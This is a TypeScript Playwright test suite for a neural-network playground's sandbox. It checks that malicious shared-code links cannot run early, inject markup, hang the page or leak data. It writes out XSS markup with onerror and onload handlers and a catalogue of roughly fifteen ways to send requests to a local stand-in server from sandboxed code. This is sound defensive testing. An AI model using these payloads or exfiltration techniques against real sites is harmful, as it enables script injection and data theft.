/// <reference lib="dom" />
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { deflateRawSync } from 'node:zlib'
import type { BrowserContext, ConsoleMessage, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { serve } from '../../scripts/site.mjs'
import { input } from '../../src/index.js'
import { launchPatient, noSite, type PatientBrowser } from '../support/chromium.js'

/* Links to the playground by people who mean harm: what their code tries, and what becomes of it. */

const attack = (code: string): string => `// @ts-nocheck\n${code}\nexport {}\n`

const markup = '<img src="x" onerror="window.broken=1"><svg onload="window.broken=1"></svg><script>window.broken=1</script>'

const sound = JSON.parse(JSON.stringify(input(8, 8, 1).conv2d(4, 3).relu()))

describe.skipIf(noSite)('a link to the playground', () => {
  let site: Server
  let address: string
  let elsewhere: Server
  let browser: PatientBrowser
  let context: BrowserContext
  let page: Page
  /** Paths that either server was asked for. */
  const asked: string[] = []

  beforeAll(async () => {
    ;({ server: site, address } = await serve())
    site.on('request', ({ url = '' }) => asked.push(url))
    elsewhere = createServer(({ url = '' }, response) => {
      asked.push(url)
      response.setHeader('access-control-allow-origin', '*').setHeader('content-type', 'text/javascript').end('')
    })
    elsewhere.on('upgrade', ({ url = '' }, socket) => {
      asked.push(url)
      socket.destroy()
    })
    await new Promise((resolve) => elsewhere.listen(0, '127.0.0.1', () => resolve(undefined)))
    browser = await launchPatient()
    context = await browser.newContext()
    // One page for all: it loads the compiler, and has to go on after each of them.
    page = await context.newPage()
  })
  afterAll(async () => {
    await browser?.close()
    site?.close()
    elsewhere?.close()
  })

  const linkOf = (code: string): string => `${address}/playground.html#code=${deflateRawSync(code).toString('base64url')}`

  /** Opens a link and starts its code, as its reader might. */
  const start = async (code: string, tab = page): Promise<void> => {
    await tab.goto(linkOf(code))
    await tab.click('text=Run this code')
  }

  const result = async (): Promise<string> => (await page.textContent('.result')) ?? ''

  const waitFor = (text: string, tab = page): Promise<unknown> =>
    tab.waitForFunction((wanted) => document.querySelector('.result')?.textContent?.includes(wanted), text)

  /** The page is what it was, and does its work. */
  const expectUnharmed = async (tab = page): Promise<void> => {
    await tab.selectOption('.playground select', 'LeNet-5')
    await tab.waitForFunction(() => document.querySelector('.network h2')?.textContent === 'lenet')
    expect(await tab.evaluate(() => 'broken' in window)).toBe(false)
    expect(await tab.locator('[onerror], [onload]').count()).toBe(0)
  }

  const refusal = 'The code sent'

  test('its code runs when the reader starts it, not before: not on opening, nor when it is changed, nor at the next visit', async () => {
    await page.goto(linkOf("console.log('it has run')\nexport {}\n"))
    await page.waitForSelector('text=Run this code')
    await page.waitForSelector('.starting', { state: 'detached' })
    expect(await result()).not.toContain('it has run')
    await page.click('.editor .view-lines')
    await page.keyboard.press('Control+End')
    await page.keyboard.insertText('// mine')
    await page.waitForFunction(() => location.hash === '')
    // A second change comes after the first was dealt with.
    await page.keyboard.insertText(', again')
    await page.waitForFunction(() => localStorage.getItem('stridewise-playground')?.includes('again'))
    expect(await result()).not.toContain('it has run')
    await page.reload()
    await page.waitForSelector('text=Run this code')
    await page.waitForSelector('.starting', { state: 'detached' })
    expect(await result()).not.toContain('it has run')
    await page.click('text=Run this code')
    await waitFor('it has run')
  })

  test('another link in the same page waits for its reader too', async () => {
    await start("console.log('the first')\nexport {}\n")
    await waitFor('the first')
    await page.evaluate((link) => location.assign(link), linkOf("console.log('the second')\nexport {}\n"))
    await page.waitForSelector('text=Run this code')
    expect(await result()).not.toContain('the')
    await page.click('text=Run this code')
    await waitFor('the second')
  })

  test('code of a link that another tab keeps waits for its reader, also where the playground was open before', async () => {
    const tabs = await browser.newContext()
    const [first, second] = [await tabs.newPage(), await tabs.newPage()]
    const said: string[] = []
    first.on('console', (message) => said.push(message.text()))
    /** Follows a link of the site itself, which loads no page anew. */
    const follow = async (path: string): Promise<void> => {
      await first.evaluate((to) => {
        const anchor = Object.assign(document.createElement('a'), { href: to, textContent: 'go', id: 'go' })
        document.querySelector('.VPContent')?.prepend(anchor)
      }, path)
      await first.click('#go')
      await first.waitForURL(`**${path}`)
    }
    const draft = () => first.evaluate(() => localStorage.getItem('stridewise-playground'))
    await first.goto(`${address}/playground.html`)
    await first.waitForSelector('.starting', { state: 'detached' })
    await first.click('.editor .view-lines')
    await first.keyboard.press('Control+End')
    await first.keyboard.insertText('// my own')
    await first.waitForFunction(() => localStorage.getItem('stridewise-playground')?.includes('my own'))
    // An exercise has its own text.
    await follow('/course/keep-the-size.html')
    await first.click('section.task > button')
    await first.waitForSelector('.exercise-editor .view-line')
    await first.waitForSelector('.verdict .wrong')
    expect(await draft()).toContain('my own')
    await second.goto(linkOf(attack("self.console.log('it has run')")))
    await second.waitForSelector('.starting', { state: 'detached' })
    await second.click('.editor .view-lines')
    await second.keyboard.press('Control+End')
    await second.keyboard.insertText('// changed')
    await second.waitForFunction(() => localStorage.getItem('stridewise-playground')?.includes('changed'))
    await second.close()
    await follow('/playground.html')
    await first.waitForSelector('text=Run this code')
    await first.waitForSelector('.starting', { state: 'detached' })
    // What is left of the first visit would have checked and run it by now.
    await first.waitForTimeout(5000)
    expect(said).not.toContain('it has run')
    await first.reload()
    await first.waitForSelector('text=Run this code')
    await first.click('text=Run this code')
    await first.waitForEvent('console', { predicate: (message) => message.text() === 'it has run' })
    await tabs.close()
  })

  const picture = { light: markup, dark: markup }
  const old = { name: 'n', type: markup, report: { layers: [], totals: {} }, summary: markup, picture }

  test.each([
    ['a picture with a handler, as an object', { networks: [old], printed: [], thrown: undefined }],
    ['a picture with a handler, as a text', JSON.stringify({ networks: [{ ...old, data: old }], printed: [] })],
    ['nothing', null],
    ['a number', 42],
    ['a list', '[]'],
    ['no JSON', '{'],
    ['networks that are none', '{"networks":1,"printed":[]}'],
    ['printed numbers', '{"networks":[],"printed":[1]}'],
    ['a thrown object', '{"networks":[],"printed":[],"thrown":{"toString":1}}'],
    ['a network without a name', JSON.stringify({ networks: [{ data: sound }], printed: [] })],
    ['two networks of a name', `{"networks":[${[1, 2].map(() => JSON.stringify({ name: 'a', data: sound })).join()}],"printed":[]}`],
  ])('a message of its own does nothing: %s', async (_, message) => {
    await start(attack(`self.postMessage(${JSON.stringify(message)})`))
    await page.waitForSelector('.thrown')
    expect(await page.locator('.network').count()).toBe(0)
    await expectUnharmed()
  })

  test.each([
    ['shapes that its layers do not have', { ...sound, output: [1, 2, 3] }],
    ['a shape of markup', { ...sound, input: [markup] }],
    ['a kind of markup', { ...sound, layers: [{ name: 'a', kind: markup }] }],
    ['itself as its input', { ...sound, layers: [{ name: 'a', kind: 'relu', from: ['a'] }] }],
    ['a million layers', { ...sound, layers: Array.from({ length: 100_000 }, (_, index) => ({ name: `${index}`, kind: 'relu' })) }],
  ])('a network that is none is named and not shown: %s', async (_, data) => {
    const code = attack(
      `self.postMessage(JSON.stringify({ networks: [{ name: ${JSON.stringify(markup)}, data: ${'layers' in data && data.layers.length > 10 ? '{ ...many, layers: Array.from({ length: 100000 }, (_, i) => ({ name: String(i), kind: "relu" })) }' : JSON.stringify(data)} }], printed: [] }))`,
    )
    await start(code.replace('...many', JSON.stringify(sound).slice(1, -1)))
    await page.waitForSelector('.thrown')
    expect(await page.textContent('.thrown')).toContain('<img')
    expect(await page.locator('.network').count()).toBe(0)
    await expectUnharmed()
  })

  test('names of layers and exports, prints and errors with markup are text', async () => {
    const named = { ...sound, layers: [{ ...sound.layers[0], name: markup }, sound.layers[1]] }
    await start(
      attack(
        `self.postMessage(${JSON.stringify(JSON.stringify({ networks: [{ name: markup, data: named }], printed: [markup], thrown: markup }))})`,
      ),
    )
    await page.waitForSelector('.network .picture svg')
    expect(await page.textContent('.network h2')).toBe(markup)
    expect(await page.textContent('.report-bars')).toContain('<img src="x"')
    expect(await page.textContent('.thrown')).toBe(markup)
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('.downloads button:text-is("SVG")')])
    expect(download.suggestedFilename()).toBe('network.svg')
    await expectUnharmed()
  })

  test('a million messages end with the first', async () => {
    await start(attack("for (let i = 0; i < 1_000_000; i++) self.postMessage('x')"))
    await waitFor(refusal)
    await expectUnharmed()
  })

  test('messages that follow the answer are not heard', async () => {
    await start(attack(`setInterval(() => self.postMessage('x'), 0)\nexport const network = require('stridewise').input(8, 8, 1).relu()`))
    await page.waitForSelector('.network .picture svg')
    await expectUnharmed()
  })

  test('a huge text is not taken', async () => {
    await start(attack("self.postMessage('x'.repeat(2 ** 28))"))
    await waitFor(refusal)
    await expectUnharmed()
  })

  test('a million lines and a long one are cut', async () => {
    await start("for (let i = 0; i < 1_000_000; i++) console.log('line ' + i)\nthrow new Error('long'.repeat(1_000_000))\nexport {}\n")
    await waitFor('More was printed')
    expect((await result()).length).toBeLessThan(50_000)
    await expectUnharmed()
  })

  // The compiler reads the text on opening, before anybody runs anything.
  test.each([
    ['brackets that overflow the compiler', `export const n = ${'('.repeat(190_000)}`],
    ['calls that overflow the compiler', `export const n = a${'.a'.repeat(95_000)}`],
  ])('code that cannot be checked is told, not waited for: %s', async (_, code) => {
    await page.goto(linkOf(code))
    await waitFor('The compiler cannot check this code.')
    await page.waitForSelector('.starting', { state: 'detached' })
    await expectUnharmed()
  })

  describe('where the clock of the page is put forward, instead of a core being busy until then', () => {
    let clocked: Page
    beforeAll(async () => {
      clocked = await (await browser.newContext()).newPage()
      await clocked.clock.install()
    })
    afterAll(() => clocked?.context().close())

    /** Starts code that says when it runs, and lets its ten seconds pass for the page. */
    const expectGivenUp = async (code: string): Promise<void> => {
      // The editor may start it anew, since its text has just changed: that run has its own ten seconds.
      const pass = async (message: ConsoleMessage): Promise<void> => {
        if (message.text() === 'it runs') await clocked.clock.fastForward(10_000)
      }
      clocked.on('console', pass)
      await start(attack(code), clocked)
      await waitFor('It ran for 10 seconds and was stopped.', clocked)
      clocked.off('console', pass)
      await expectUnharmed(clocked)
    }

    test('an endless loop is stopped', async () => {
      await expectGivenUp("self.console.log('it runs')\nfor (;;) {}")
    })

    test('code that never answers is stopped', async () => {
      await expectGivenUp("export const a = { graph: 1, params: 1, toJSON() { self.console.log('it runs'); throw 1 } }")
    })

    test('code that is checked without end is stopped, and the next is checked', async () => {
      // Each of these types takes the compiler many seconds before it gives up.
      const types = Array.from({ length: 100 }, (_, index) => `export const x${index}: Fork<${index}, 0, []> = 1`)
      const forks = 'Fork<[A, 1], [B, 2], [...N, 0]> | Fork<[A, 2], [B, 1], [...N, 0]>'
      // A page of its own is opened, so that its first check is the one without end.
      await clocked.goto('about:blank')
      await clocked.goto(linkOf(`type Fork<A, B, N extends 0[]> = N['length'] extends 30 ? [A, B] : ${forks}\n${types.join('\n')}`))
      await clocked.waitForSelector('text=Checking the code')
      // The compiler has the code by now, or soon will; it takes minutes.
      await new Promise((resolve) => setTimeout(resolve, 5000))
      expect(await clocked.textContent('.starting')).toContain('Checking the code')
      await clocked.clock.fastForward(60_000)
      await waitFor('The compiler did not finish in 60 seconds and was stopped.', clocked)
      await clocked.waitForSelector('.starting', { state: 'detached' })
      await expectUnharmed(clocked)
    })
  })

  test('of a hundred thousand mistakes a hundred are shown', async () => {
    await page.goto(linkOf("'".repeat(190_000)))
    await waitFor('The first 100 are shown.')
    expect(await page.locator('.complaints li').count()).toBe(100)
    await expectUnharmed()
  })

  test('a name of a layer is one line of letters that are seen, and not a long one', async () => {
    const named = { ...sound, layers: [{ ...sound.layers[0], name: '\u202e\u2066LONG' }, sound.layers[1]] }
    const message = JSON.stringify(JSON.stringify({ networks: [{ name: '\u202eno', data: named }], printed: [] }))
    // A link is too short for the name itself.
    await start(attack(`self.postMessage(${message}.replace('LONG', 'long'.repeat(100_000)))`))
    await page.waitForSelector('.network .picture svg')
    expect(await page.textContent('.network h2')).toBe('\\u{202e}no')
    expect(await page.textContent('.report-bars')).toContain('\\u{202e}\\u{2066}long')
    expect((await page.textContent('.report-bars'))?.length).toBeLessThan(2_000)
    await expectUnharmed()
  })

  test('no request leaves it, to no server and in no way', async () => {
    const other = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
    const ways = [
      (to: string) => `fetch('http://${to}/leak-fetch', { mode: 'no-cors' }).catch(() => {})`,
      (to: string) => `fetch('http://${to}/leak-kept', { keepalive: true, mode: 'no-cors' }).catch(() => {})`,
      (to: string) => `{ const x = new XMLHttpRequest(); x.open('GET', 'http://${to}/leak-xhr', false); x.send() }`,
      (to: string) => `new WebSocket('ws://${to}/leak-socket')`,
      (to: string) => `new EventSource('http://${to}/leak-events')`,
      (to: string) => `importScripts('http://${to}/leak-scripts')`,
      (to: string) => `(0, eval)("import('http://${to}/leak-import').catch(() => {})")`,
      (to: string) => `new Worker('http://${to}/leak-worker')`,
      (to: string) =>
        `new Worker(URL.createObjectURL(new Blob(["fetch('http://${to}/leak-nested', { mode: 'no-cors' }); importScripts('http://${to}/leak-nested-scripts')"])))`,
      (to: string) => `new WebTransport('https://${to}/leak-transport')`,
      (to: string) => `new FontFace('x', 'url(http://${to}/leak-font)').load().catch(() => {})`,
      (to: string) => `new SharedWorker("data:text/javascript,fetch('http://${to}/leak-shared', { mode: 'no-cors' })")`,
      (to: string) => `self.location = 'http://${to}/leak-location'`,
      (to: string) =>
        `new Worker(URL.createObjectURL(new Blob(["import 'http://${to}/leak-module'"], { type: 'text/javascript' })), { type: 'module' })`,
      (to: string) => `new Worker("data:text/javascript,fetch('http://${to}/leak-data', { mode: 'no-cors' })")`,
    ]
    const tries = [other, address.slice('http://'.length)].flatMap((to) => ways.map((way) => `try { ${way(to)} } catch {}`))
    // What is begun has time to come about, and the workers in it to begin.
    await start(attack(`${tries.join('\n')}\nconst end = Date.now() + 4000\nwhile (Date.now() < end) {}\nconsole.log('all was tried')`))
    await waitFor('all was tried')
    await expectUnharmed()
    expect(asked.filter((path) => path.includes('leak'))).toEqual([])
    // So that the above means something.
    await fetch(`http://${other}/leak-control`)
    expect(asked.filter((path) => path.includes('leak'))).toEqual(['/leak-control'])
  })

  test('it has no origin: nothing that the site keeps can be read', async () => {
    await start(
      attack(
        `console.log('origin ' + self.origin)\nfor (const way of [() => indexedDB.open('x'), () => caches.keys, () => localStorage])\n  try { way(); console.log('open') } catch (error) { console.log('closed') }`,
      ),
    )
    await waitFor('origin null')
    expect(await result()).not.toContain('open\n')
    await expectUnharmed()
  })

  test('the page that runs code does so in the playground only', async () => {
    const other = await context.newPage()
    await other.goto(`${address}/playground-sandbox.html`)
    const ran = await other.evaluate(
      () =>
        new Promise((resolve) => {
          const { port1, port2 } = new MessageChannel()
          port1.onmessage = () => resolve('it ran')
          window.postMessage("self.postMessage('loaded')", '*', [port2])
          setTimeout(() => resolve('it did not run'), 2000)
        }),
    )
    expect(ran).toBe('it did not run')
    expect(other.workers()).toEqual([])
    await other.close()
  })

  test('a short link that would be gigabytes is damaged', async () => {
    const other = await context.newPage()
    await other.goto(linkOf(`//${'a'.repeat(50_000_000)}`))
    await other.waitForSelector('text=The link is damaged')
    await other.close()
  })

  test.each(['index.html', 'playground.html', 'reference/conv2d.html'])('%s runs no script that gets into it', async (path) => {
    await page.goto(`${address}/${path}`)
    const blocked = await page.evaluate(
      (text) =>
        new Promise<string>((resolve) => {
          addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective))
          document.body.insertAdjacentHTML('beforeend', text)
        }),
      markup,
    )
    expect(blocked).toMatch(/^script-src/)
    expect(await page.evaluate(() => 'broken' in window)).toBe(false)
    expect(await page.evaluate(() => fetch('https://example.com').then(String, () => 'refused'))).toBe('refused')
  })
})
